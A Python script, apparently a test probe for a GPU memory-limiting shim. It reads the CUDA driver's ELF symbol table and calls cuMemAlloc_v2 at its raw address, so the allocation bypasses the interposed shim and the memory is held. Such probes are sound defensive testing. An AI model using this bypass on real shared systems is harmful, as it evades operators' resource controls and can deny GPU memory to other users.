"""Takes GPU memory past the shim, as hostile code can, and holds it.

`past_the_shim.py BYTES` prints the driver's answer. `dlsym` leads to the shim, however a program came by the driver's
handle: so the driver's own function is found in its file, and its place by a function that is nobody's.
"""

import ctypes
import struct
import sys

DRIVER = "/gpu/driver/libcuda.so.1"
DYNSYM = 11


def places():
    """Symbols of the driver with their place in it."""
    with open(DRIVER, "rb") as file:
        elf = file.read()
    (headers,), (count,) = struct.unpack_from("<Q", elf, 40), struct.unpack_from("<H", elf, 60)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, headers + 64 * number) for number in range(count)]
    table = next(section for section in sections if section[1] == DYNSYM)
    names = sections[table[6]][4]
    found = {}
    for at in range(table[4], table[4] + table[5], 24):
        name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", elf, at)
        found[elf[names + name : elf.index(b"\0", names + name)].decode()] = value
    return found


cuda, place = ctypes.CDLL(DRIVER), places()
base = ctypes.cast(cuda.cuInit, ctypes.c_void_p).value - place["cuInit"]
allocate = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)(base + place["cuMemAlloc_v2"])
device, context, memory = ctypes.c_int(), ctypes.c_void_p(), ctypes.c_uint64()
assert cuda.cuInit(0) == 0 and cuda.cuDeviceGet(ctypes.byref(device), 0) == 0
assert cuda.cuDevicePrimaryCtxRetain(ctypes.byref(context), device) == 0 and cuda.cuCtxSetCurrent(context) == 0
print(allocate(ctypes.byref(memory), int(sys.argv[1])), flush=True)
sys.stdin.read()
